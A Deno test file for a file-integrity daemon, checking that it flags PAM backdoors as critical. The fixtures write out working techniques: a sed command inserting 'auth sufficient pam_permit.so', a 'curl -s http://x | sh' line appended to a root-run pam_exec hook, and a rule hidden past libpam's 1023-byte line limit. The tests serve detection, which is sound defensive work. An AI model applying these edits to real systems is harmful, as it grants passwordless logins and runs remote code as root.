/**
 * PAM by meaning, as an attacker backdoors it: `sed -i` puts
 * `auth sufficient pam_permit.so` on top of a copy of Debian's common-auth
 * in a watched pam.d. The change is critical because the stack now lets in
 * a caller without a password, named with its writer.
 */
import { assert, assertEquals } from "./assert.ts";
import { run, tempDir, waitFor } from "./helpers.ts";
import { Daemon, daemonConfig } from "./daemon.ts";
import type { ChangeEvent } from "../src/pipeline/change_event.ts";

Deno.test("a pam_permit backdoor on top of common-auth is critical: auth opened", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  await Deno.writeTextFile(
    `${x}/pam.d/common-auth`,
    "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\n" +
      "auth\trequired\t\t\tpam_permit.so\n",
  );
  const config = await daemonConfig(x, [`- path: ${x}/pam.d`]);
  const d = new Daemon(config);
  try {
    await d.started();
    const sed = await run([
      "sed",
      "-i",
      "1i auth sufficient pam_permit.so",
      `${x}/pam.d/common-auth`,
    ]);
    assertEquals(sed.code, 0, sed.stderr);
    const opened = (e: { event: { action?: string } }) => e.event.action === "pam_auth_opened";
    assert(
      await waitFor(() => d.changes().some(opened), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
    const e = d.changes().find(opened)!;
    assertEquals(e.bpfink?.severity, "critical");
    assertEquals(e.process?.name, "sed");
    assert(d.changes().some((e) => e.message === "pam rule added: auth sufficient pam_permit.so"));
  } finally {
    await d.stop();
  }
});

Deno.test("a file a watched PAM service includes is watched too: a backdoor there is seen", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  await Deno.mkdir(`${x}/shared`);
  await Deno.writeTextFile(
    `${x}/shared/common-auth`,
    "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\n" +
      "auth\trequired\t\t\tpam_permit.so\n",
  );
  await Deno.writeTextFile(`${x}/shared/common-session`, "session required pam_unix.so\n");
  // Only the service is watched; what it reads through includes is not named in the config.
  await Deno.writeTextFile(
    `${x}/pam.d/sshd`,
    `@include ${x}/shared/common-auth\nsession substack ${x}/shared/common-session\n`,
  );
  const config = await daemonConfig(x, [`- path: ${x}/pam.d/sshd`]);
  const d = new Daemon(config);
  try {
    await d.started();
    for (const f of ["common-auth", "common-session"]) {
      assert(await waitFor(() => d.stderr.includes(`watching ${x}/shared/${f}`), 5_000), d.stderr);
    }
    const sed = await run([
      "sed",
      "-i",
      "1i auth sufficient pam_permit.so",
      `${x}/shared/common-auth`,
    ]);
    assertEquals(sed.code, 0, sed.stderr);
    const opened = (e: ChangeEvent) =>
      e.event.action === "pam_auth_opened" && e.file?.path === `${x}/shared/common-auth`;
    assert(
      await waitFor(() => d.changes().some(opened), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
    assertEquals(d.changes().find(opened)!.bpfink?.severity, "critical");
    await Deno.writeTextFile(
      `${x}/shared/common-session`,
      "session required pam_unix.so\nsession optional pam_exec.so /tmp/run-me\n",
    );
    const added = (e: ChangeEvent) =>
      e.file?.path === `${x}/shared/common-session` &&
      (e.message ?? "").includes("pam_exec.so /tmp/run-me");
    assert(
      await waitFor(() => d.changes().some(added), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
  } finally {
    await d.stop();
  }
});

Deno.test("the program a PAM rule runs (pam_exec) is watched with the service: a line added to it is seen", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  await Deno.writeTextFile(`${x}/hook.sh`, "#!/bin/sh\nlogger login\n");
  await Deno.writeTextFile(
    `${x}/pam.d/sshd`,
    `session optional pam_exec.so quiet ${x}/hook.sh\nauth required pam_unix.so\n`,
  );
  const config = await daemonConfig(x, [`- path: ${x}/pam.d`]);
  const d = new Daemon(config);
  try {
    await d.started();
    assert(
      await waitFor(() => d.stderr.includes(`watching ${x}/hook.sh as generic`), 5_000),
      d.stderr,
    );
    await Deno.writeTextFile(`${x}/hook.sh`, "curl -s http://x | sh\n", { append: true });
    const changed = await d.expect(
      (e) => e.file?.path === `${x}/hook.sh` && e.event.action === "modified",
      "the hook's change",
    );
    assertEquals(
      (changed.bpfink?.diff as { added?: string[] } | undefined)?.added,
      ["curl -s http://x | sh"],
    );
    // It runs as root at every login: any change to it is critical.
    assertEquals(changed.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});

Deno.test("a rule libpam reads past 1023 bytes of a line is seen, a hash-like word before it or not", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  const common =
    "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\n" +
    "auth\trequired\t\t\tpam_permit.so\n";
  await Deno.writeTextFile(`${x}/pam.d/common-auth`, common);
  const config = await daemonConfig(x, [`- path: ${x}/pam.d`]);
  const d = new Daemon(config);
  try {
    await d.started();
    // libpam cuts the line at 1023 bytes and reads the rest as a rule of its own. bpfink was
    // handed the file with the hash-like word redacted, 88 bytes shorter: one line, no rule.
    const head = "auth optional pam_env.so x=$6$abcdefgh$" + "A".repeat(86) + " ";
    const line = head + " ".repeat(1023 - head.length) + "auth sufficient pam_permit.so\n";
    await Deno.writeTextFile(`${x}/pam.d/common-auth`, line + common);
    const opened = (e: { event: { action?: string } }) => e.event.action === "pam_auth_opened";
    assert(
      await waitFor(() => d.changes().some(opened), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
    assert(!JSON.stringify(d.changes()).includes("$6$abcdefgh$"), "the hash-like word is reported");
  } finally {
    await d.stop();
  }
});

Deno.test("pam_access's accessfile= is watched as access rules: a grant there is seen, named by the file PAM reads", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  await Deno.mkdir(`${x}/rules`);
  // Named so that nothing but the PAM line makes it access rules.
  await Deno.writeTextFile(`${x}/rules/sshd-logins`, "- : ALL : ALL\n");
  await Deno.writeTextFile(
    `${x}/pam.d/sshd`,
    `account required pam_access.so accessfile=${x}/rules/sshd-logins\n`,
  );
  const config = await daemonConfig(x, [`- path: ${x}/pam.d`]);
  const d = new Daemon(config);
  try {
    await d.started();
    const granted = (what: string) => (e: { event: { action?: string }; message?: string }) =>
      e.event.action === "access_rule_added" && (e.message ?? "").includes(what);
    await waitFor(() => d.stderr.includes(`${x}/rules/sshd-logins`), 5_000);
    await Deno.writeTextFile(`${x}/rules/sshd-logins`, "+ : ALL : ALL\n");
    assert(
      await waitFor(() => d.changes().some(granted("+ : ALL : ALL")), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
    // A file a change names from then on is followed too.
    await Deno.writeTextFile(`${x}/rules/other`, "- : root : ALL\n");
    await Deno.writeTextFile(
      `${x}/pam.d/sshd`,
      `account required pam_access.so accessfile=${x}/rules/other\n`,
    );
    await waitFor(() => d.stderr.includes(`${x}/rules/other`), 5_000);
    await Deno.writeTextFile(`${x}/rules/other`, "+ : root : ALL\n");
    assert(
      await waitFor(() => d.changes().some(granted("+ : root : ALL")), 10_000),
      `not reported: ${d.changes().map((e) => e.message).join("\n")}`,
    );
    // One that names a directory is not listed: its files are no access rules.
    await Deno.mkdir(`${x}/many`);
    await Deno.writeTextFile(`${x}/many/a`, "+ : ALL : ALL\n");
    await Deno.writeTextFile(
      `${x}/pam.d/sshd`,
      `account required pam_access.so accessfile=${x}/many\n`,
    );
    assert(
      await waitFor(() => d.stderr.includes(`${x}/many, included as a file`), 5_000),
      d.stderr,
    );
    await Deno.writeTextFile(`${x}/many/a`, "- : ALL : ALL\n");
    await new Promise((r) => setTimeout(r, 500));
    assert(
      !d.changes().some((e) => (e.file?.path ?? "").startsWith(`${x}/many/`)),
      "a directory's file watched",
    );
  } finally {
    await d.stop();
  }
});

Deno.test("a change to common-auth that opens only the services including it is reported critical, naming them", async () => {
  await using dir = await tempDir();
  const x = dir.path;
  await Deno.mkdir(`${x}/pam.d`);
  const strict =
    "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n" +
    "auth required pam_permit.so\n";
  await Deno.writeTextFile(`${x}/pam.d/common-auth`, strict);
  // sshd lets in whoever its include lets through; cron reads no include.
  await Deno.writeTextFile(
    `${x}/pam.d/sshd`,
    `@include ${x}/pam.d/common-auth\nauth required pam_permit.so\n`,
  );
  await Deno.writeTextFile(`${x}/pam.d/cron`, "auth required pam_deny.so\n");
  const d = new Daemon(await daemonConfig(x, [`- path: ${x}/pam.d`]));
  try {
    await d.started();
    // pam_deny made optional, the pam_permit after it dropped: common-auth alone still lets
    // nobody in (no module of it succeeds), but sshd's own pam_permit now decides.
    await Deno.writeTextFile(
      `${x}/pam.d/common-auth`,
      "auth [success=1 default=ignore] pam_unix.so nullok\nauth optional pam_deny.so\n",
    );
    const opened = await d.expect(
      (e) => e.event.action === "pam_auth_opened" && e.file?.path === `${x}/pam.d/common-auth`,
      "sshd opened through common-auth",
    );
    assertEquals(
      opened.message,
      `${x}/pam.d/common-auth: the auth of sshd, which includes it, ` +
        "now lets in a caller who knows no password",
    );
    assertEquals(opened.bpfink?.severity, "critical");
  } finally {
    await d.stop();
  }
});
